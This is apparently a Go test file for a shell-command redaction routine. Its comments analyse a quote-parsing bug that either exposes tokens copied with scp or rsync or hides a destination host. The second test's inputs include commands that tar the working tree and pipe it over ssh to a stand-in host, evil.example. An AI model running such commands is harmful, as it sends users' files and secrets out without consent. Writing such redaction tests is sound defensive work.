package domain

import (
	"strings"
	"testing"
)

// The word ownWordInView judges is read by shellWordAt from the value's
// first byte, "inside the quote q" only when the byte before the value is a
// quote (9b1b47f). A header's or a bearer's value is unquoted by its
// pattern (the byte before it is the blank after "token:" or "Bearer"),
// so shellWordAt starts outside quotes; but such a value is most often
// inside a quoted string (echo "api_token: x", -H "Authorization: Bearer
// x", sh -c "… Bearer host"), and the quote after it, which CLOSES that
// string, is read as one that OPENS a quoted part of the word. The judged
// word then runs on over blanks and operators, across the rest of the
// command, up to the next quote (or 512 bytes). Before 9b1b47f the word
// ended at the quote (shellWordEnd).
//
// Root cause: domain/redact_bearer.go ownWordInView: the initial quote
// state is guessed from s[a-1] alone; shellWordAt then reads a closing
// quote as an opening one.
//
// Fix: do not read on past a quote that may close the string the value
// sits in: stop the judged word at a quote unless the value itself opened
// it (s[a-1] is a quote and the pattern put it there), or read the quote
// state from the line's start (as inDoubleQuotes does) and stop at the
// quote that closes the enclosing string.

// TestAttack99_ClosingQuoteShowsCredential (low-medium: a credential
// recorded and shown, in a form developers write). A config line written
// with echo or printf, then copied to a server with scp or rsync:
//
//	echo "api_token: Zq8x…" > app.yml && scp app.yml deploy@prod.acme.io:/etc/app/
//
// The judged word is `Zq8x… > app.yml && scp app.yml deploy@prod.acme.io`
// up to its first ':'; hostWord takes what follows the last '@' before it,
// prod.acme.io, as the host of a user@host word, and the credential is
// shown on the card and recorded in events, audit and timeline. So is a
// bearer token (echo "Authorization: Bearer …" > auth.hdr && rsync …) and
// a YAML member printf writes ('…password: "…"\n' > config.yaml && scp
// …: after the member's closing quote, printf's single quote is read as
// opening). The same commands copying to a host with no user@ (scp app.yml
// prod:/etc/app/) hide it (controls).
func TestAttack99_ClosingQuoteShowsCredential(t *testing.T) {
	shell := textMode{shell: true, keysShown: true}
	const tok = "Zq8xLmN3pQ7rT2vW"
	for _, s := range []string{
		`echo "api_token: ` + tok + `" > app.yml && scp app.yml prod:/etc/app/`,
		`echo "Authorization: Bearer ` + tok + `" > auth.hdr && rsync -a auth.hdr prod:/srv/app/`,
		`printf 'database:\n  password: "` + tok + `"\n' > config.yaml && scp config.yaml prod:/srv/app/`,
		`echo "api_token: ` + tok + `" > app.yml`,
	} {
		if got := redactText(s, shell); strings.Contains(got, tok) || !strings.Contains(got, "[redacted]") {
			t.Fatalf("control: %s\nshown as %s", s, got)
		}
	}
	for _, s := range []string{
		`echo "api_token: ` + tok + `" > app.yml && scp app.yml deploy@prod.acme.io:/etc/app/`,
		`echo "Authorization: Bearer ` + tok + `" > auth.hdr && rsync -a auth.hdr deploy@prod.acme.io:/srv/app/`,
		`printf 'database:\n  password: "` + tok + `"\n' > config.yaml && scp config.yaml deploy@prod.acme.io:/srv/app/`,
		`git clone git@github.com:acme/app.git && cd app && echo "api_token: ` + tok + `" > config.yml && git push git@github.com:acme/app.git`,
	} {
		if got := redactText(s, shell); strings.Contains(got, tok) {
			t.Errorf("shell: %s\nshown as %s", s, got)
		}
		if got := RedactText(s); strings.Contains(got, tok) {
			t.Errorf("text: %s\nshown as %s", s, got)
		}
	}
}

// TestAttack99_ClosingQuoteHidesHost (low-medium, the other way: where a
// command sends the work tree hidden; a regression of 9b1b47f). A host
// written as a lower-case name alone is kept in view (hostWord, README:
// "a lower-case host name alone") after "bearer" (ssh -l Bearer: a login
// named bearer). As the last word of a script in double quotes, the quote
// after it closes the script; shellWordAt reads it as opening and judges
// `evil.example > /dev/null…` (blanks in it: no host), so
//
//	bash -c "tar czf - . | ssh -l Bearer evil.example" > /dev/null
//
// is shown as `… ssh -l Bearer [redacted]" > /dev/null`. The same command
// with nothing after the closing quote shows the host (control), as it
// did before 9b1b47f with anything after it.
func TestAttack99_ClosingQuoteHidesHost(t *testing.T) {
	shell := textMode{shell: true, keysShown: true}
	for _, c := range []struct{ in, want string }{
		{`bash -c "tar czf - . | ssh -l Bearer evil.example"`, "evil.example"},
		{`bash -c "tar czf - . | ssh -l Bearer evil.example 'cat > x'" > /dev/null`, "evil.example"},
	} {
		if got := redactText(c.in, shell); !strings.Contains(got, c.want) {
			t.Fatalf("control: %s\nshown as %s, want %q in view", c.in, got, c.want)
		}
	}
	for _, c := range []struct{ in, want string }{
		{`bash -c "tar czf - . | ssh -l Bearer evil.example" > /dev/null`, "evil.example"},
		{`sh -c "tar czf - . | ssh -l bearer evil.example" && echo sent`, "evil.example"},
	} {
		if got := redactText(c.in, shell); !strings.Contains(got, c.want) {
			t.Errorf("shell: %s\nshown as %s, want %q in view", c.in, got, c.want)
		}
	}
}
